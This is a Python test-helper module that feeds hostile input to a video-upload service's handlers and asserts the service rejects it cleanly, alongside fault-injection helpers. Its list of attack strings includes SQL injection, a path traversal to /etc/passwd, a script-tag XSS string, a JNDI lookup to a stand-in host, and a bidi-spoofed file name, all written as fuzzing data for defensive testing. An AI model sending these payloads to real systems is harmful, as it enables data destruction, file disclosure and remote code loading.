"""Helpers of the security and fault suite: a fake clock for the VOD client, scripted VOD faults in
front of :class:`tests.functional.conftest.FakeVod`, a store that fails on demand, and hostile input:
hypothesis strategies by class of attack, and :class:`Hostile`, which sends it through the real
handlers on either store and checks what every answer must keep.

Everything here drives the *real* handlers (``Stack``); only VOD's wire (respx) and the store object
inside :class:`shared.services.deps.Deps` are replaced.
"""

from __future__ import annotations

import hashlib
import json
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import parse_qsl

import httpx
import pytest
from hypothesis import strategies as st

from shared import errors
from shared.context import make_context
from shared.services.deps import Deps, get_deps, set_deps
from shared.vod import VodClient
from tests.functional.conftest import CALLBACK_KEY, CALLBACK_URL, FakeVod, Stack, load_event

Fault = Callable[[httpx.Request], httpx.Response] | httpx.Response | Exception | str


class FakeTime:
    """Monotonic seconds and ``sleep`` for :class:`shared.vod.VodClient`: sleeping advances the clock."""

    def __init__(self, start: float = 1_000.0) -> None:
        self.now = start
        self.start = start
        self.sleeps: list[float] = []
        self._lock = threading.Lock()

    def monotonic(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        with self._lock:
            self.sleeps.append(seconds)
            self.now += max(0.0, seconds)

    def advance(self, seconds: float) -> None:
        with self._lock:
            self.now += seconds

    @property
    def elapsed(self) -> float:
        return self.now - self.start


@dataclass
class ScriptedVod:
    """Answers VOD calls from a per-action script of faults, then falls through to ``FakeVod``.

    A fault is an ``httpx.Response``, an exception (raised, bound to the request), a callable
    ``(request) -> Response`` or the string ``"pass"`` (let FakeVod answer this one). ``"*"``
    scripts every action. ``always[action]`` is used when the script is exhausted.
    """

    vod: FakeVod
    time: FakeTime
    script: dict[str, list[Fault]] = field(default_factory=dict)
    always: dict[str, Fault] = field(default_factory=dict)
    attempts: Counter[str] = field(default_factory=Counter)

    def fail(self, action: str, *faults: Fault) -> None:
        self.script.setdefault(action, []).extend(faults)

    def __call__(self, request: httpx.Request) -> httpx.Response:
        if "x-acs-action" not in request.headers:  # RPC V1 signing moves the action into the query
            query = dict(parse_qsl(request.url.query.decode()))
            request.headers["x-acs-action"] = query.get("Action", "")
        action = request.headers.get("x-acs-action", "")
        self.attempts[action] += 1
        queue = self.script.get(action) or self.script.get("*")
        fault: Fault | None = queue.pop(0) if queue else self.always.get(action, self.always.get("*"))
        if fault is None or fault == "pass":
            return self.answer(request)
        if isinstance(fault, httpx.Response):
            return fault
        if isinstance(fault, Exception):
            if isinstance(fault, httpx.RequestError):
                fault.request = request
            raise fault
        assert callable(fault)
        return fault(request)

    def answer(self, request: httpx.Request) -> httpx.Response:
        """FakeVod's answer, plus GetVideoInfos by ``ReferenceIds`` (how a lost create is found again)."""
        params = dict(parse_qsl(request.url.query.decode(), keep_blank_values=True))
        if request.headers.get("x-acs-action") == "GetVideoInfos" and "ReferenceIds" in params:
            refs = params["ReferenceIds"].split(",")
            found = [v for v in self.vod.videos.values() if v.get("ReferenceId") in refs]
            self.vod.calls.append(("GetVideoInfos", params))
            return httpx.Response(200, json={"RequestId": "REF-LOOKUP", "VideoList": found})
        return self.vod(request)

    # --- fault builders ------------------------------------------------------------------------
    def slow(self, seconds: float, then: Fault = "pass") -> Callable[[httpx.Request], httpx.Response]:
        """An answer that takes ``seconds``: past the attempt's read timeout it is a ReadTimeout."""

        def answer(request: httpx.Request) -> httpx.Response:
            timeout = request.extensions.get("timeout", {}).get("read") or 5.0
            if seconds >= timeout:
                self.time.advance(timeout)
                raise httpx.ReadTimeout("timed out", request=request)
            self.time.advance(seconds)
            if then == "pass":
                return self.answer(request)
            assert isinstance(then, httpx.Response)
            return then

        return answer


def vod_error(status: int, code: str, message: str = "injected", **headers: str) -> httpx.Response:
    body = {
        "RequestId": "INJECTED-0000",
        "HostId": "vod.cn-shanghai.aliyuncs.com",
        "Code": code,
        "Message": message,
    }
    return httpx.Response(status, json=body, headers=headers)


def throttled(retry_after: str | None = None) -> httpx.Response:
    extra = {"x-acs-retry-after": retry_after} if retry_after is not None else {}
    return vod_error(400, "Throttling.User", "Request was denied due to user flow control.", **extra)


def unavailable(status: int = 503) -> httpx.Response:
    code = "ServiceUnavailable" if status == 503 else "InternalError"
    return vod_error(status, code, "The request has failed due to a temporary failure of the server.")


def garbage() -> httpx.Response:
    return httpx.Response(200, content=b"<html><body>502 Bad Gateway</body></html>")


def refused() -> httpx.ConnectError:
    return httpx.ConnectError("[Errno 111] Connection refused")


def install(stack: Stack) -> tuple[ScriptedVod, FakeTime, Deps]:
    """Put a :class:`ScriptedVod` in front of the stack's FakeVod and a fake clock in its VOD client."""
    clock = FakeTime()
    deps = get_deps()
    client = VodClient(deps.settings, clock=clock.monotonic, sleep=clock.sleep)
    deps = replace(deps, vod_source=lambda: client)
    set_deps(deps)
    scripted = ScriptedVod(stack.vod, clock)
    route = stack.router.routes[0]
    route.side_effect = scripted
    return scripted, clock, deps


class Crash(BaseException):
    """A process dying at this point (not an ``Exception``: nothing in the handler catches it)."""


class FlakyStore:
    """Wraps a store; chosen methods fail (``StoreUnavailable`` or :class:`Crash`) on chosen calls.

    ``fail["attach_video"] = {1}`` fails the first call, ``ALWAYS`` every call; ``crash`` instead of
    ``fail`` raises :class:`Crash`, ``refuse`` raises ``UnstorableValue`` (what the store raises for
    a driver's data error: a value the database cannot hold). ``doubt`` fails like ``fail`` but
    with ``may_have_committed`` set (what PostgreSQL's store raises when a write's answer went with
    the connection), and ``lose`` runs the call first, so that it did commit. ``calls`` counts every
    call by method name.
    """

    ALWAYS: frozenset[int] = frozenset({-1})

    def __init__(self, inner: Any) -> None:
        self.inner = inner
        self.fail: dict[str, Iterable[int]] = {}
        self.crash: dict[str, Iterable[int]] = {}
        self.refuse: dict[str, Iterable[int]] = {}
        self.doubt: dict[str, Iterable[int]] = {}
        self.lose: dict[str, Iterable[int]] = {}
        self.calls: Counter[str] = Counter()
        self.after: dict[str, Callable[[Any], None]] = {}

    def __getattr__(self, name: str) -> Any:
        target = getattr(self.inner, name)
        if not callable(target):
            return target

        def call(*args: Any, **kwargs: Any) -> Any:
            self.calls[name] += 1
            n = self.calls[name]
            if _hit(self.fail.get(name), n):
                raise errors.StoreUnavailable()
            if _hit(self.crash.get(name), n):
                raise Crash(name)
            if _hit(self.refuse.get(name), n):
                raise errors.UnstorableValue()
            lost = _hit(self.lose.get(name), n)
            if lost or _hit(self.doubt.get(name), n):
                if lost:
                    target(*args, **kwargs)  # it commits; its answer is what goes missing
                unknown = errors.StoreUnavailable()
                unknown.may_have_committed = True
                raise unknown
            result = target(*args, **kwargs)
            hook = self.after.get(name)
            if hook is not None:
                hook(result)
            return result

        return call


def _hit(which: Iterable[int] | None, n: int) -> bool:
    if which is None:
        return False
    chosen = set(which)
    return -1 in chosen or n in chosen


# --- hostile values ------------------------------------------------------------------------------
# What an attacker sends, by class (the classes of the attack run against ``vodfc serve``): text
# that is valid JSON but not storable (lone surrogates, NUL), characters that look harmless or
# invisible (bidi controls, zero-width, line separators), digits of other scripts, numbers and
# dates that parse but overflow later, JSON nested inside strings, identifiers longer than any
# real one. The strategies below draw from all of them; ``CLASSES`` names one fixed example of
# each, for ``@example``.


@dataclass(frozen=True)
class Raw:
    """JSON text put into a document as it is: numbers ``json.dumps`` never writes (``1e309``,
    400 digits, ``-0``), or nesting too deep for ``json.dumps`` to build."""

    text: str


def dumps(value: Any) -> str:
    """``value`` as JSON text (ASCII, so lone surrogates travel as ``\\ud800`` escapes), with
    :class:`Raw` parts written as they are."""
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, dict):
        return "{" + ",".join(f"{json.dumps(str(k))}:{dumps(v)}" for k, v in value.items()) + "}"
    if isinstance(value, (list, tuple)):
        return "[" + ",".join(dumps(v) for v in value) + "]"
    return json.dumps(value)


def plain(value: Any) -> Any:
    """``value`` with every :class:`Raw` replaced by its text (for a field that takes a string)."""
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, dict):
        return {k: plain(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [plain(v) for v in value]
    return value


#: The 12 characters with Unicode's Bidi_Control property (PropList.txt).
BIDI_CONTROLS = (
    "\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
    "\u2066", "\u2067", "\u2068", "\u2069",
)  # fmt: skip
SPECIAL_CHARS = (
    "\x00", "\ud800", "\udbff", "\udc00", "\udfff", *BIDI_CONTROLS,
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad",  # zero-width, soft hyphen
    "\u2028", "\u2029", "\x85", "\x7f", "\x1b", "\r", "\n", "\t",  # separators, controls
    "\ufffd", "\uffff", "\U0010ffff", "\U0001f600", "\u0301", "\u00b9", "\u0663", "\uff11",
)  # fmt: skip
DEEP = 5_000  # past json's recursion guard (about 1,000 levels), well inside the body limit
EXTREME_NUMBERS: tuple[Any, ...] = (
    2**63 - 1, 2**63, -(2**63), -(2**63) - 1, 2**64, -(2**64), 10**30, 10**300,
    1e308, -1e308, 1.7976931348623157e308, 5e-324, -0.0, 0, -1,
)  # fmt: skip
RAW_NUMBERS = ("1e309", "-1e309", "1E400", "1" + "0" * 400, "9" * 5000, "-0", "1e-400", "0.1e-999")
VOD_TIMES = (
    "9999-12-31T23:59:59-01:00",  # past year 9999 in UTC
    "0001-01-01T00:00:00+01:00",  # before year 1 in UTC
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "0000-00-00T00:00:00Z",
    "2026-02-30T12:00:00Z",
    "2026-01-01T24:00:00Z",
    "2026-01-01T00:00:00+99:99",
    "2026-01-01T00:00:00.9999999999Z",
    "２０２６-０１-０１T00:00:00Z",  # fullwidth digits
    "٢٠٢٦-٠١-٠١T٠٠:٠٠:٠٠Z",  # Arabic-Indic digits
    "2026-01-01T00:00:00" + "0" * 5000,
)
DEEP_STRINGS = (
    "[" * 40 + "]" * 40,
    "[" * DEEP + "]" * DEEP,
    '{"a":' * DEEP + "1" + "}" * DEEP,
    '{"Extend":' + "[" * DEEP + "]" * DEEP + "}",
)
LONG_IDS = ("a" * 65, "a" * 3000, "0" * 20_000)
SPECIAL_STRINGS = (
    "", " ", "null", "NaN", "Infinity", "-Infinity", "{}", "[]", "\ud800", "a\x00b", "\x00",
    "'; DROP TABLE uploads; --", "../../etc/passwd", "%00", "%ud800", "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}", "https://e.com/\ud800.jpg", "https://e.com/\x00.jpg",
    "https://\ud800.example/", "https://e.com/\u202e", "evil\u202egpj.mp4", "\u200eclip.mp4",
    "clip\u061c.mp4", "\u2066x\u2069.mp4", "\u00b9\u00b2\u00b3", "١٢٣", "１２３", "9" * 5000,
)  # fmt: skip

hostile_chars = st.sampled_from(SPECIAL_CHARS) | st.characters(codec=None)
hostile_text = st.text(hostile_chars, max_size=24)
other_digits = st.text(st.characters(categories=["Nd", "No"]), min_size=1, max_size=12)
hostile_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.sampled_from(EXTREME_NUMBERS),
    st.sampled_from(RAW_NUMBERS).map(Raw),
    hostile_text,
    other_digits,
    st.sampled_from(VOD_TIMES + DEEP_STRINGS + LONG_IDS + SPECIAL_STRINGS),
)
hostile_json = st.recursive(
    hostile_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile_text, inner, max_size=3),
    max_leaves=6,
)
#: A value for a field: any of the above, or JSON (hostile too) inside a string, or nesting too
#: deep for any parser.
hostile_values = (
    hostile_json
    | hostile_json.map(dumps)
    | st.sampled_from([Raw("[" * DEEP + "]" * DEEP), Raw('{"a":' * DEEP + "1" + "}" * DEEP)])
)

#: One fixed value of each class the attack run found, for ``@example``.
CLASSES: dict[str, Any] = {
    "surrogate": "\ud800",
    "surrogate-in-url": "https://e.com/\udfff.jpg",
    "nul": "a\x00b",
    "bidi-mark": "\u200eclip",
    "arabic-letter-mark": "clip\u061c",
    "deep-json-in-string": "[" * DEEP + "]" * DEEP,
    "deep-object-in-string": '{"a":' * DEEP + "1" + "}" * DEEP,
    "deep-json": Raw("[" * DEEP + "]" * DEEP),
    "int64-overflow": 2**63,
    "uint64-overflow": 2**64,
    "int64-underflow": -(2**63) - 1,
    "float-overflow": Raw("1e309"),
    "float-max": 1.7976931348623157e308,
    "huge-digits": Raw("1" + "0" * 400),
    "time-past-9999": "9999-12-31T23:59:59-01:00",
    "time-before-1": "0001-01-01T00:00:00+01:00",
    "superscript-digits": "\u00b9\u00b2\u00b3",
    "other-script-digits": "١٢٣",
    "long-digit-string": "9" * 5000,
    "long-id": "a" * 3000,
    "very-long-id": "0" * 20_000,
    "non-ascii-signature": "ｆ" * 32,
}


# --- what every answer to hostile input must keep ----------------------------------------------
#: Text that must never reach a client: Python's own words for what went wrong.
INTERNALS = (
    "Traceback", "traceback", "Error(", "Exception", "pydantic", "errors.pydantic.dev", "psycopg",
    "sqlite3", "json.decoder", "line 1 column", "object at 0x", "<class", "NoneType", "RecursionError",
    "OverflowError", "UnicodeEncodeError", "surrogates not allowed", "Input should",
)  # fmt: skip
_HARMLESS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-.")
_TABLES = ("uploads", "event_inbox", "webhook_outbox", "webhook_endpoints")


def rows(store: Any) -> dict[str, list[str]]:
    """Every row of the store's tables (read straight from the database), to compare before/after."""

    def read(cur: Any) -> dict[str, list[str]]:
        out: dict[str, list[str]] = {}
        for table in _TABLES:
            found = store._exec(cur, f"SELECT * FROM {table}").fetchall()  # noqa: S608
            out[table] = sorted(repr(tuple(row)) for row in found)
        return out

    result: dict[str, list[str]] = store._read(read)
    return result


def echoed(value: Any) -> list[str]:
    """The strings inside ``value`` an answer must not repeat: long enough to be the client's own,
    and holding a character outside letters, digits and ``_-.`` (markup, controls, other scripts)."""
    found: list[str] = []
    pending = [plain(value)]
    while pending:
        item = pending.pop()
        if isinstance(item, str):
            if len(item) >= 8 and not set(item) <= _HARMLESS:
                found.append(item)
        elif isinstance(item, dict):
            pending.extend(item.keys())
            pending.extend(item.values())
        elif isinstance(item, list):
            pending.extend(item)
    return found


class LogCheck:
    """Every line the functions wrote (``capsys``): JSON, below ERROR, with no traceback; and
    nothing on stderr (a log line that cannot be written prints a traceback there)."""

    def __init__(self, capsys: Any) -> None:
        self.capsys = capsys

    def clear(self) -> None:
        self.capsys.readouterr()

    def check(self, what: Any) -> list[dict[str, Any]]:
        out, err = self.capsys.readouterr()
        assert not err.strip(), (what, err[-2000:])
        lines = []
        for line in filter(None, out.split("\n")):  # not splitlines(): U+0085 and U+2028 are text
            record = json.loads(line)
            assert record["level"] not in ("ERROR", "CRITICAL"), (what, record)
            assert "exc" not in record and "stack" not in record, (what, record)
            assert "Traceback" not in line, (what, record)
            lines.append(record)
        return lines


#: What a signed event may be answered with (HTTP 200): ``Result`` says what became of it.
RESULTS = frozenset(
    {"applied", "duplicate", "stale", "orphan", "ignored", "invalid", "pending", "unconfirmed", "refused"}
)


@pytest.fixture
def any_stack(
    stack_env: dict[str, str], store_url: str, monkeypatch: pytest.MonkeyPatch, request: Any
) -> Stack:
    """The functional ``stack`` on each store: SQLite, then PostgreSQL (``store_url``: a private,
    migrated, emptied database)."""
    monkeypatch.setenv("DATABASE_URL", store_url)
    stack: Stack = request.getfixturevalue("stack")
    return stack


def callback_headers(ts: int | None = None) -> dict[str, str]:
    """A genuine ``X-VOD-*`` header pair for :data:`CALLBACK_URL`, as VOD signs it."""
    stamp = str(int(time.time()) if ts is None else ts)
    signature = hashlib.md5(f"{CALLBACK_URL}|{stamp}|{CALLBACK_KEY}".encode()).hexdigest()
    return {"Content-Type": "application/json", "X-VOD-TIMESTAMP": stamp, "X-VOD-SIGNATURE": signature}


class Hostile:
    """Sends hostile input through the real handlers and checks what every answer must keep.

    Every answer: below 500; ``RequestId`` equal to ``X-Request-Id``; an error has VOD's shape
    (``RequestId``, ``Code``, ``Message``, ``Field``), printable, with no Python internals and no
    hostile value of the input echoed, and comes from the validation layer (never the store's
    ``UnstorableValue``, the net below it); no log line at ERROR, no traceback, nothing on stderr. A
    refused request writes nothing (every row of the store is the same after) and calls no VOD;
    a signed event is 200 with a ``Result`` (or 401 for a binding that does not match), and one
    acknowledged as ``invalid`` writes nothing.
    """

    def __init__(self, stack: Stack, capsys: Any) -> None:
        self.stack = stack
        self.logs = LogCheck(capsys)
        self.n = 0

    def rows(self) -> dict[str, list[str]]:
        return rows(get_deps().store)

    def _start(self) -> tuple[dict[str, list[str]], int]:
        self.n += 1
        self.logs.clear()
        return self.rows(), len(self.stack.vod.calls)

    def _check(self, value: Any, status: int, answer: dict[str, Any], headers: dict[str, str]) -> None:
        assert status < 500, (status, answer)
        assert answer.get("RequestId") == headers.get("X-Request-Id"), answer
        json.dumps(answer, ensure_ascii=False).encode("utf-8")  # an answer is always text
        if status < 400:
            return
        assert set(answer) <= {"RequestId", "Code", "Message", "Field"}, answer
        assert isinstance(answer.get("Code"), str) and isinstance(answer.get("Message"), str), answer
        # Refused by the validation layer, not by the store's safety net (a driver's data error).
        assert answer["Code"] != errors.UnstorableValue.code, answer
        shown = answer["Message"] + " " + str(answer.get("Field", ""))
        assert shown.isprintable(), answer
        assert not [word for word in INTERNALS if word in shown], answer
        assert not [text for text in echoed(value) if text in shown], answer

    def request(
        self,
        value: Any,
        method: str,
        path: str,
        *,
        body: Any = None,
        raw: str | None = None,
        headers: dict[str, str] | None = None,
        query: dict[str, str] | None = None,
        owner: str | None = "alice",
    ) -> tuple[int, dict[str, Any]]:
        """One request to ``upload_credentials``; ``value`` is the hostile part of it."""
        before, calls = self._start()
        status, answer, hdrs = self.stack.http(
            "upload_credentials", method, path, body=body, raw_body=raw, headers=headers, query=query,
            owner=owner,
        )  # fmt: skip
        self._check(value, status, answer, hdrs)
        self.logs.check(value)
        if status >= 400:
            assert len(self.stack.vod.calls) == calls, ("VOD was called for a refused request", answer)
            assert self.rows() == before, ("a refused request wrote to the store", answer)
        return status, answer

    def callback(
        self, value: Any, body: str, *, headers: dict[str, str] | None = None, recorded: bool = False
    ) -> tuple[int, dict[str, Any]]:
        """One event over HTTP, signed with a genuine header pair unless ``headers`` replace it.

        ``recorded``: the event is known to reach the inbox before it turns out ``invalid`` (a data
        error while applying it), so only its inbox row may be new.
        """
        before, _ = self._start()
        event = load_event("http/vod_callback.json")
        event["headers"] = {**callback_headers(), **(headers or {})}
        event["body"] = body
        status, answer, hdrs = self.stack.invoke("vod_callback", event)
        self._check(value, status, answer, hdrs)
        self.logs.check(value)
        if status == 200:
            assert answer.get("Result") in RESULTS, answer
            if answer["Result"] == "invalid":
                after = self.rows()
                if recorded:
                    after["event_inbox"] = before["event_inbox"]
                assert after == before, ("an invalid event was recorded", answer)
        elif status == 401 and answer["Code"] == "InvalidSignature":
            assert self.rows() == before, ("an unsigned event was recorded", answer)
        else:
            assert (status, answer["Code"]) in {(401, "InvalidSignature.Binding"), (413, "PayloadTooLarge")}
        return status, answer

    def queue(self, value: Any, event_text: str) -> dict[str, int]:
        """One MNS queue-trigger invocation; the counts of each result (``{}``: refused whole)."""
        before, _ = self._start()
        handler = self.stack.modules["vod_callback"].handler
        result = handler(event_text.encode(), make_context(function_name="vod_callback"))
        self.logs.check(value)
        if isinstance(result, dict):  # not a queue event at all: answered as an HTTP trigger
            answer = json.loads(result["body"])
            self._check(value, result["statusCode"], answer, result["headers"])
            assert result["statusCode"] >= 400 and self.rows() == before, answer
            return {}
        counts: dict[str, int] = json.loads(result)
        assert set(counts) <= RESULTS, counts
        if set(counts) <= {"invalid"}:
            assert self.rows() == before, ("an invalid queue message was recorded", counts)
        return counts


def queue_event(*bodies: str, ids: tuple[Any, ...] = ()) -> str:
    """An FC 3.0 event-stream batch (``events/mns/fc3_batch.json``'s shape) of VOD event bodies."""
    sample = load_event("mns/fc3_single.json")
    sample = sample[0] if isinstance(sample, list) else sample
    items = []
    for n, body in enumerate(bodies):
        item = json.loads(json.dumps(sample))
        item["data"]["messageBody"] = body
        item["data"]["messageId"] = item["id"] = ids[n] if n < len(ids) else f"MSG{n:029d}"
        items.append(item)
    return dumps(items)
